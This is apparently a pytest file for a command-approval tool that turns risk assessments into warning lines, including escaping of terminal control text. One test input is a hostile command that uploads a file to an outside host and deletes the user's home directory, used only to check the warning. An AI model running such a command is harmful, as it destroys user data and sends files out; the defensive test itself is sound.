"""The prompt's lines, snapshot by snapshot."""

from __future__ import annotations

import pytest

from sandgate.approvals.prompts.risk_lines import LABELS, render, risk_lines
from sandgate.protocol.risk import RiskAssessment
from support.command.assessing import judged


def test_the_block_has_summary_level_categories_and_reasons() -> None:
    assert risk_lines(judged("curl -T a.txt https://example.com; rm -rf ~")) == (
        "Summary: Deletes everything in your home directory /home/u. Nothing of it can be brought back.",
        "Risk: HIGH (data deletion, data exfiltration, network access)",
        "  - deletes recursively: your home directory",
        "  - sends data to another machine",
        "  - contacts another machine",
    )


def test_no_categories_means_no_parentheses_and_a_blank_description_no_summary() -> None:
    assert render(RiskAssessment(" ", "low")).lines == ("Risk: LOW",)


def test_all_categories_have_a_label() -> None:
    risk = RiskAssessment("x", "high", tuple(LABELS))
    assert render(risk).risk == (
        "Risk: HIGH (data deletion, data exfiltration, privilege escalation, system modification, network access, "
        "resource exhaustion, compliance)"
    )


def test_low_confidence_is_said() -> None:
    assert render(judged("frobnicate")).risk == "Risk: MEDIUM, not certain"


@pytest.mark.parametrize("text", ["\x1b[2J", "a\u202eb", "line\nline"])
def test_foreign_text_is_escaped(text: str) -> None:
    """Required: an assessment may come from a model; a terminal must not obey it."""
    lines = risk_lines(RiskAssessment(text, "high", reasons=(text,)))
    assert all(line.isprintable() for line in lines)
